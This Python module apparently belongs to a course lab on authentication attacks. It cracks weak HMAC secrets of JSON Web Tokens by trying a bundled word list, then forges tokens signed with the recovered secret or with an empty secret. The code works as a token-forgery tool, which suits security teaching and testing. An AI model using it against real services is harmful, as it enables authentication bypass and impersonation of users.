"""Guess the secret of an HS256 token: every guess is checked at home, and nobody counts them."""

import hmac
import json
import time
from collections.abc import Callable, Iterable, Iterator, Sequence
from functools import lru_cache
from typing import Any, NamedTuple

from authlab import data_path
from authlab.attacks.forging import NothingToForge, Scene
from authlab.jose import b64url_decode

__all__ = ["Cracked", "blank", "crack", "find_secret", "read_words", "try_words"]

_DIGESTS = {"HS256": "sha256", "HS384": "sha384", "HS512": "sha512"}


class Cracked(NamedTuple):
    """What guessing came to: the secret or None, how many guesses, in how many seconds."""

    secret: bytes | None
    guesses: int
    seconds: float

    @property
    def rate(self) -> float:
        """Guesses a second."""
        return self.guesses / self.seconds if self.seconds else 0.0


@lru_cache
def read_words() -> tuple[str, ...]:
    """Return the course's own list of secrets that people use, the likeliest first."""
    return tuple(data_path("weak_secrets.txt").read_text("utf-8").splitlines())


def try_words(token: str, words: Iterable[str]) -> Iterator[tuple[str, bool]]:
    """Yield (word, whether it is the token's secret), one word at a time, and stop when it is.

    Raises ValueError for a token that no HMAC signed.
    """
    signing_input, _, text = token.rpartition(".")
    alg = json.loads(b64url_decode(token.partition(".")[0])).get("alg")
    if alg not in _DIGESTS:
        raise ValueError(f"The token is signed by {alg!r}, expected one of {', '.join(_DIGESTS)}.")
    data, signature, digest = signing_input.encode(), b64url_decode(text), _DIGESTS[alg]
    for word in words:
        found = hmac.digest(word.encode(), data, digest) == signature
        yield word, found
        if found:
            return


def find_secret(
    token: str,
    words: Sequence[str] | None = None,
    *,
    progress: Callable[[Iterable[Any]], Iterable[Any]] = iter,
    timer: Callable[[], float] = time.perf_counter,
) -> Cracked:
    """Try `words`, by default `read_words()`, as the secret of an HMAC token.

    `progress` wraps the words, as `tqdm` does; `timer` measures in seconds.
    """
    guesses, secret, start = 0, None, timer()
    for word, found in try_words(token, progress(read_words() if words is None else words)):
        guesses += 1
        if found:
            secret = word.encode()
    return Cracked(secret, guesses, timer() - start)


def crack(scene: Scene) -> Iterator[str]:
    """Find a weak secret with a word list, and sign with it."""
    token = scene.get_shop_token()
    cracked = find_secret(token)
    scene.say(f"tries {cracked.guesses:,} words as the secret", f"found: {cracked.secret!r}")
    if cracked.secret is None:
        raise NothingToForge(f"None of {cracked.guesses:,} words is the secret.")
    header = json.loads(b64url_decode(token.partition(".")[0]))
    yield scene.write(header, cracked.secret)


def blank(scene: Scene) -> Iterator[str]:
    """Sign with the empty secret, which a verifier has when a setting is missing."""
    scene.say("signs with an empty secret", "kid: batch")
    yield scene.write({"alg": "HS256", "kid": "batch"}, b"")
